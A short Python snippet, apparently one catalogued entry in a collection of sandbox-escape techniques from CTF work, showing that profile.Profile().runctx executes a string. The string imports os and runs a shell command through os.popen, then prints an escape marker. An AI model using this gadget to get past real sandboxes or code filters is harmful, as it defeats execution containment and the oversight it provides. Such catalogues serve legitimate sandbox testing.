# escape: 023
# technique: cProfile/profile.runctx execs a string
# family: deval
# goal: exec
# first-seen: CTF
import profile, io, contextlib
g = {}
profile.Profile().runctx("import os; r = os.popen('echo pr').read()", g, g)
if g['r'] == 'pr\n': print('ESCAPED:profile')
